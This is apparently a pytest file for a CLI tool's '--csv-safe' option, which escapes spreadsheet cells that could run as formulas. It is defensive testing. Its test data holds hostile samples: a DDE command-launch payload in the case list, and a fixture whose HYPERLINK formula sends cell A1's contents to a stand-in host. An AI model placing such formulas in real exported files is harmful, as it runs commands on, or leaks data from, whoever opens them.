"""Cells that no spreadsheet takes for formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.running import yrd
from yrd_cli.writing.sheets import safe_cell, sheet_row

CELLS = [
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),
    ("＋1", "'＋1"),
    ("－1+1", "'－1+1"),
    ("＠A1", "'＠A1"),
    ("\t=1", "'\t=1"),
    ("\r\n=1", "'\r\n=1"),
    ("\ufeff=1", "'\ufeff=1"),
    ("\u200b =1", "'\u200b =1"),
    ("\u3000=1", "'\u3000=1"),
    ("-0.5", "-0.5"),
    ("+3", "+3"),
    ("-1e-05", "-1e-05"),
    ("-10.2%", "-10.2%"),
    ("长三角=沪苏浙皖", "长三角=沪苏浙皖"),
    ("'=1", "'=1"),
    ("", ""),
    (" ", " "),
]


@pytest.mark.parametrize(("cell", "safe"), CELLS)
def test_a_cell_that_may_be_a_formula_gets_an_apostrophe(cell: str, safe: str) -> None:
    assert safe_cell(cell) == safe


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1))
def test_safe_rows_are_read_back_with_every_cell(cells: list[str]) -> None:
    row_of = sheet_row("csv-safe")
    assert row_of is not None
    text = row_of(cells).decode()
    [read] = csv.reader([text]) if "\n" not in text[:-1] and "\r" not in text else _read(text)
    assert [c.removeprefix("'") for c in read] == [c.removeprefix("'") for c in cells]
    assert all(c[:1] not in tuple("=@＝＋－＠") for c in read)


def _read(text: str) -> list[list[str]]:
    from io import StringIO

    return list(csv.reader(StringIO(text, newline="")))


EVIL = '=HYPERLINK("http://a.example/?"&A1,"看")'


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    record = {"id": "=1+1", "title": "@SUM(1)", "text": f"{EVIL}\n\n投资2192亿元。+1-1长三角。"}
    path = tmp_path / "evil.jsonl"
    path.write_text(json.dumps(record) + "\n")
    return path


COMMANDS: list[list[str]] = [
    ["clean", "--format", "csv"],
    ["clean", "--format", "tsv"],
    ["clean", "--report", "--format", "csv"],
    ["clean", "--reasons", "--format", "csv"],
    ["convert", "--detect", "--format", "csv"],
    ["stats", "--format", "csv"],
    ["stats", "--ngrams", "2", "--chars", "--format", "tsv"],
    ["stats", "--overview", "--format", "csv"],
    ["summarize", "--format", "csv"],
    ["summarize", "--facts-only", "--format", "csv"],
    ["summarize", "--facts-only", "--together", "--format", "tsv"],
    ["summarize", "--table", "money", "--format", "csv"],
    ["grep", "--kwic", "--format", "csv", "长三角"],
    ["grep", "--kwic", "--group", "left1", "--format", "csv", "长三角"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_every_sheet_of_every_command_is_safe(evil: Path, command: list[str]) -> None:
    run = yrd(*command, "--csv-safe", evil)
    assert run.status == 0, run.err
    is_tsv = "tsv" in command
    text = run.out.decode()
    rows = [line.split("\t") for line in text.splitlines()] if is_tsv else _read(text)
    assert len(rows) > (0 if command[0] == "clean" else 1)
    for cell in (cell for row in rows for cell in row):
        assert safe_cell(cell) == cell or cell.startswith("'")


REFUSED = [
    ["clean"],
    ["clean", "--format", "md"],
    ["convert", "--to", "t"],
    ["stats", "--format", "json"],
    ["summarize"],
    ["grep", "长三角"],
    ["grep", "--kwic", "--format", "json", "长三角"],
    ["grep", "--kwic", "-c", "长三角"],
]


@pytest.mark.parametrize("command", REFUSED, ids=" ".join)
def test_it_is_refused_where_nothing_is_a_sheet(evil: Path, command: list[str]) -> None:
    run = yrd(*command, "--csv-safe", evil)
    assert run.status == 2
    assert len(run.messages) == 1
    assert "--csv-safe goes with" in run.err


def test_sheets_beside_the_documents_are_safe(evil: Path, tmp_path: Path) -> None:
    evil.write_bytes(evil.read_bytes() * 2)
    clusters, rejected = tmp_path / "clusters.csv", tmp_path / "rejected.csv"
    run = yrd(
        "clean", "--dedup", "exact", "--clusters", clusters, "--rejected", rejected, "--csv-safe",
        evil,
    )  # fmt: skip
    assert run.status == 0, run.err
    assert run.out.startswith(b"{")
    for path in (clusters, rejected):
        for cell in (cell for row in _read(path.read_text()) for cell in row):
            assert safe_cell(cell) == cell or cell.startswith("'")
    assert "'=1+1" in clusters.read_text()
